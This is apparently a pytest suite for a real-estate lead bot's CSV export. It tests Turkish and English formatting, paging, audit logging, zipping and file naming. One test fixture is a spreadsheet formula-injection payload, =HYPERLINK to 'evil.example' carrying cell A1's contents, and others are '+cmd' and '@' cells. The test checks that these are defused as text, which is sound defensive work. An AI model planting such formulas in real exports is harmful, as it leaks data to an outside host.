"""The export of a period's leads on both databases: the CSV read back with the csv module as
Excel would split it, in Turkish and English, defused against formulas, a page at a time;
each export logged; a large one zipped."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.export_handlers import package
from bot.render.export import export_headers, export_style, file_name, too_big
from core.app import App
from core.clock import ManualClock
from core.errors import InvalidInput, NotAManager
from core.lifecycle.export import ExportDone, export_leads, export_log, record_export
from core.model import (
    Agent,
    AgentProfile,
    Contact,
    DeclineReason,
    Lead,
    LeadStatus,
    Offer,
    OfferKind,
    OfferStatus,
    Role,
    Stage,
    Temperature,
)
from core.numbers.export import BOM, COLUMNS, defuse
from core.ports import UnitOfWork
from core.ports.exports import ExportChannel
from leadrelay.bootstrap import bootstrap, sql_uow_factory
from leadrelay.export_cli import write_export
from tests.office import office

NOW = datetime(2026, 12, 5, 9, 0, tzinfo=UTC)
NOVEMBER = "2026-11-01..2026-11-30"  # in Istanbul: 2026-10-31 21:00 to 2026-11-30 21:00 UTC
ADA, BORA, SELIN = 501, 502, 509
T1 = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)  # 12:00 in Istanbul
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def roster() -> list[Agent]:
    return [Agent(ADA, "Ada", profile=AgentProfile(team="Kadıköy")),
            Agent(BORA, "Bora", position=1),
            Agent(SELIN, "Selin", role=Role.MANAGER, position=2)]


def made(received: datetime, **fields: object) -> Lead:
    values: dict[str, object] = {"contact_id": 0, "source": "website", "received_at": received,
                                 "score": 50, "temperature": Temperature.WARM,
                                 "status": LeadStatus.WITH_MANAGERS}
    return Lead(**{**values, **fields})  # type: ignore[arg-type]


def an_offer(agent: int, at: datetime, status: OfferStatus, *, kind: OfferKind = OfferKind.OFFER,
             reason: DeclineReason | None = None) -> Offer:
    return Offer(lead_id=0, agent_id=agent, token="t", created_at=at,
                 deadline=at + timedelta(minutes=5), sequence=1, status=status,
                 decided_at=None if status is OfferStatus.PENDING else at + timedelta(minutes=1),
                 kind=kind, decline_reason=reason)


def november() -> list[tuple[Lead, list[Offer]]]:
    """Leads in the order stored (their ids), each with its offers: two at the same moment,
    one stored last that arrived before them, one at the period's last microsecond, and one
    each just before and at its end, which the export leaves out."""
    won = made(T1, name="Deniz Kaya", phone="+905321234567", email="deniz@example.com",
               product="residential", region="Istanbul / Kadıköy", budget_min=1_000_000,
               budget_max=2_000_000, temperature=Temperature.HOT, score=80, lead_type="vip",
               status=LeadStatus.CLOSED, stage=Stage.WON, owner_id=ADA, team="Moda",
               accepted_at=T1 + timedelta(minutes=2, seconds=30),
               contacted_at=T1 + timedelta(minutes=10), amount=4_500_000,
               offer_amount=5_000_000, closed_at=datetime(2026, 11, 20, 12, 0, tzinfo=UTC),
               campaign={"utm_source": "google", "utm_medium": "cpc",
                         "utm_campaign": "kasım; \"indirim\"", "gclid": "abc-1"})
    offers = [an_offer(BORA, T1, OfferStatus.DECLINED, reason=DeclineReason.BUSY),
              an_offer(BORA, T1, OfferStatus.EXPIRED),
              an_offer(ADA, T1, OfferStatus.ACCEPTED),
              an_offer(BORA, T1, OfferStatus.WITHDRAWN, kind=OfferKind.CLAIM),  # not his to answer
              an_offer(BORA, T1, OfferStatus.DECLINED, reason=DeclineReason.UNREACHABLE)]
    hostile = made(T1, name=HYPERLINK, phone=None, email="@evil.example", product="+cmd",
                   region="-2+3", campaign={"utm_campaign": "\tSUM(1)"})
    at_last = datetime(2026, 11, 30, 20, 59, 59, 999999, tzinfo=UTC)
    last = made(at_last, status=LeadStatus.CLOSED, stage=Stage.LOST, owner_id=BORA,
                lost_reason="price", temperature=Temperature.COLD,
                accepted_at=at_last + timedelta(minutes=90))
    before = made(datetime(2026, 10, 31, 20, 59, 59, tzinfo=UTC), name="October")
    at_end = made(datetime(2026, 11, 30, 21, 0, tzinfo=UTC), name="December")
    earlier = made(datetime(2026, 11, 2, 7, 15, tzinfo=UTC), name="İlk Çağrı")
    return [(won, offers), (hostile, []), (last, []), (before, []), (at_end, []),
            (earlier, [an_offer(ADA, datetime(2026, 11, 2, 7, 15, tzinfo=UTC),
                                OfferStatus.PENDING)])]


async def store(uow: UnitOfWork, leads: list[tuple[Lead, list[Offer]]], *,
                agents: list[Agent] | None = None) -> list[int]:
    """The roster (default: Ada, Bora and Selin), the leads and their offers, stored as the
    bot stores them (an offer pending, then decided); the leads' ids."""
    async with uow:
        for agent in roster() if agents is None else agents:
            await uow.agents.save(agent)
        contact = Contact("+905321234567", None, "Deniz", T1)
        await uow.contacts.add_all([contact])
        for lead, _ in leads:
            lead.contact_id = contact.id
        await uow.leads.add_all([lead for lead, _ in leads])
        for lead, offers in leads:
            wanted = [o.status for o in offers]
            for offer in offers:
                offer.lead_id, offer.status = lead.id, OfferStatus.PENDING
            await uow.offers.add_all(offers)
            for offer, status in zip(offers, wanted, strict=True):
                if status is not OfferStatus.PENDING:
                    assert offer.decided_at is not None
                    assert await uow.offers.decide(offer.id, status=status, at=offer.decided_at,
                                                   reason=offer.decline_reason)
        await uow.commit()
    return [lead.id for lead, _ in leads]


def app_on(engine: AsyncEngine, lang: str = "tr") -> App:
    return bootstrap(config=office(language=lang, currency="TRY"), clock=ManualClock(NOW),
                     uow_factory=sql_uow_factory(engine))


async def exported(app: App, lang: str, *, page: int = 2000) -> tuple[bytes, ExportDone]:
    out = io.BytesIO()
    done = await app.run_in_turns(
        export_leads, out=out, period=NOVEMBER, page=page,
        style=export_style(lang, app.config.zone),
        headers=export_headers(lang, currency=app.config.currency))
    return out.getvalue(), done


def read_back(data: bytes, delimiter: str) -> list[list[str]]:
    """The CSV as a spreadsheet splits it: after the BOM, by *delimiter*."""
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode(), newline=""),
                           delimiter=delimiter))


async def test_a_period_reads_back_as_its_leads_in_turkish_one_row_each_by_arrival(
        engine: AsyncEngine) -> None:
    app = app_on(engine)
    won, hostile, last, _, _, earlier = await store(app.uow(), november())
    data, done = await exported(app, "tr")
    rows = read_back(data, ";")
    assert rows[0][:3] == ["Talep No", "Geliş zamanı", "Kaynak"]
    assert "Kazanılan tutar (TRY)" in rows[0]
    assert len(rows[0]) == len(COLUMNS)
    assert [r[0] for r in rows[1:]] == [str(earlier), str(won), str(hostile), str(last)]
    assert dict(zip(COLUMNS, rows[2], strict=True)) == {
        "id": str(won), "received": "2026-11-03 12:00", "source": "website",
        "utm_source": "google", "utm_medium": "cpc", "utm_campaign": 'kasım; "indirim"',
        "gclid": "abc-1", "fbclid": "", "name": "Deniz Kaya",
        "phone": "'+905321234567",  # text to Excel, not the formula +905321234567
        "email": "deniz@example.com", "product": "residential",
        "region": "Istanbul / Kadıköy", "budget_min": "1000000", "budget_max": "2000000",
        "temperature": "sıcak", "score": "80", "lead_type": "vip", "status": "kapandı",
        # Ada's team when she took it, though she is in Kadıköy's now.
        "stage": "kazanıldı", "owner": "Ada", "team": "Moda",
        "accepted": "2026-11-03 12:02", "first_contact": "2026-11-03 12:10",
        "minutes_to_accept": "2,5", "minutes_to_contact": "10,0",
        "offers": "3", "declines": "1", "lapses": "1",  # the withdrawn claim and the
        "amount_won": "4500000", "offer_amount": "5000000",  # bounced offer were not his
        "lost_reason": "", "closed": "2026-11-20 15:00"}
    assert rows[4][COLUMNS.index("lost_reason")] == "fiyat"
    assert rows[4][COLUMNS.index("received")] == "2026-11-30 23:59"
    assert rows[4][COLUMNS.index("minutes_to_accept")] == "90,0"
    assert rows[4][COLUMNS.index("minutes_to_contact")] == ""  # never reached
    assert rows[4][COLUMNS.index("team")] == ""  # Bora has none
    assert rows[1][COLUMNS.index("name")] == "İlk Çağrı"
    assert rows[1][COLUMNS.index("offers")] == "1"  # made, waiting for an answer
    assert done.rows == 4
    assert done.size == len(data)
    assert done.period.start == datetime(2026, 10, 31, 21, 0, tzinfo=UTC)


async def test_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
        engine: AsyncEngine) -> None:
    app = app_on(engine)
    _, hostile, *_ = await store(app.uow(), november())
    rows = read_back((await exported(app, "tr"))[0], ";")
    row = dict(zip(COLUMNS, next(r for r in rows if r[0] == str(hostile)), strict=True))
    assert row["name"] == "'" + HYPERLINK
    assert (row["email"], row["product"], row["region"]) == ("'@evil.example", "'+cmd",
                                                             "'-2+3")
    assert row["utm_campaign"] == "'\tSUM(1)"
    assert row["phone"] == ""


def test_defuse_prefixes_every_sign_owasp_names_and_leaves_the_rest() -> None:
    for text in ("=1+1", "+90 532", "-5", "@SUM(A1)", "\tx", "\rx", "＝1+1"):
        assert defuse(text) == "'" + text
    for text in ("Deniz", " =1", "05321234567", "", "'quoted", "a=b"):
        assert defuse(text) == text


async def test_english_splits_on_commas_with_decimal_points_and_english_words(
        engine: AsyncEngine) -> None:
    app = app_on(engine, "en")
    won, *_ = await store(app.uow(), november())
    data, _ = await exported(app, "en")
    rows = read_back(data, ",")
    assert rows[0][:2] == ["Lead", "Received"]
    assert "Amount won (TRY)" in rows[0]
    row = dict(zip(COLUMNS, rows[2], strict=True))
    assert row["id"] == str(won)
    assert (row["minutes_to_accept"], row["minutes_to_contact"]) == ("2.5", "10.0")
    assert (row["temperature"], row["status"], row["stage"]) == ("hot", "closed", "won")
    assert row["utm_campaign"] == 'kasım; "indirim"'
    assert b'"kas\xc4\xb1m; ""indirim"""' in data  # quoted as Excel expects


@pytest.mark.parametrize("page", [1, 2, 3])
async def test_pages_of_any_size_give_the_same_file(engine: AsyncEngine, page: int) -> None:
    app = app_on(engine)
    await store(app.uow(), november())
    whole, _ = await exported(app, "tr")
    paged, done = await exported(app, "tr", page=page)
    assert paged == whole  # two leads at one moment, split across pages or not
    assert done.rows == 4


async def test_a_period_that_is_not_one_or_a_manager_who_is_not_is_refused(
        engine: AsyncEngine) -> None:
    app = app_on(engine)
    await store(app.uow(), november())
    with pytest.raises(InvalidInput):
        await app.run_in_turns(export_leads, out=io.BytesIO(), period="forever",
                               style=export_style("en", app.config.zone),
                               headers=export_headers("en"))
    out = io.BytesIO()
    with pytest.raises(NotAManager):
        await app.run_in_turns(export_leads, out=out, period=NOVEMBER, by_id=ADA,
                               style=export_style("en", app.config.zone),
                               headers=export_headers("en"))
    assert out.getvalue() == b""


async def test_each_export_is_logged_with_who_when_and_how_much(engine: AsyncEngine) -> None:
    app = app_on(engine)
    await store(app.uow(), november())
    out = io.BytesIO()
    done = await write_export(app, out, period=NOVEMBER, lang="en", by_name="operator")
    _, chat = await exported(app, "tr")
    await app.run(record_export, done=chat, channel=ExportChannel.CHAT, by_id=SELIN)
    newest, first = await app.run(export_log)
    assert (newest.by, newest.entry.by_id, newest.entry.channel) == ("Selin", SELIN,
                                                                      ExportChannel.CHAT)
    assert (first.by, first.entry.by_id, first.entry.channel) == ("operator", None,
                                                                   ExportChannel.CLI)
    assert (first.entry.rows, first.entry.size, first.entry.at) == (4, len(out.getvalue()),
                                                                    NOW)
    assert first.entry.size == done.size
    assert (first.entry.period_start, first.entry.period_end) == (
        datetime(2026, 10, 31, 21, 0, tzinfo=UTC), datetime(2026, 11, 30, 21, 0, tzinfo=UTC))


class BrokenPipe:
    """Standard output whose reader went away after the header."""

    def __init__(self) -> None:
        self.writes = 0

    def write(self, data: bytes) -> int:
        self.writes += 1
        if self.writes > 1:
            raise BrokenPipeError("the reader left")
        return len(data)


async def test_an_export_that_broke_off_is_logged_with_what_was_about_to_go_out(
        engine: AsyncEngine) -> None:
    app = app_on(engine)
    await store(app.uow(), november())
    with pytest.raises(BrokenPipeError):
        await write_export(app, BrokenPipe(), period=NOVEMBER, by_name="operator")
    [logged] = await app.run(export_log)
    assert logged.entry.rows == 4  # one page: all of it may have left


def test_a_csv_over_the_threshold_is_sent_zipped_and_one_under_it_as_it_is(
        tmp_path: Path) -> None:
    small = tmp_path / "small.csv"
    small.write_bytes(BOM + b"a;b\r\n" * 10)
    assert package(small, zip_over=1000) == small
    large = tmp_path / "leads_2026-11-01_2026-11-30.csv"
    content = BOM + b"1;Deniz Kaya;'+905321234567\r\n" * 200
    large.write_bytes(content)
    zipped = package(large, zip_over=1000)
    assert zipped.name == "leads_2026-11-01_2026-11-30.zip"
    assert not large.exists()
    with zipfile.ZipFile(zipped) as archive:
        [entry] = archive.infolist()
        assert entry.filename == large.name
        assert entry.compress_type == zipfile.ZIP_DEFLATED
        assert archive.read(entry) == content
    assert zipped.stat().st_size < len(content) // 5


def test_over_telegrams_limit_the_manager_is_told_the_command_that_writes_it() -> None:
    from zoneinfo import ZoneInfo

    from core.numbers.period import parse_period
    from sandbox import parse_html

    period = parse_period("last month", now=NOW, zone=ZoneInfo("Europe/Istanbul"))
    text, _ = parse_html(too_big("tr", period, 63 * 2**20 + 2**19))
    assert "last month dönemi 63,5 MB tutuyor" in text
    assert text.endswith("leadrelay export --period 'last month' --lang tr --out leads.csv")


def test_the_file_is_named_by_the_offices_first_and_last_day() -> None:
    from zoneinfo import ZoneInfo

    from core.numbers.period import parse_period

    zone = ZoneInfo("Europe/Istanbul")
    period = parse_period(NOVEMBER, now=NOW, zone=zone)
    assert file_name(period, zone) == "leads_2026-11-01_2026-11-30.csv"
    assert file_name(parse_period("today", now=NOW, zone=zone), zone) == (
        "leads_2026-12-05_2026-12-05.csv")

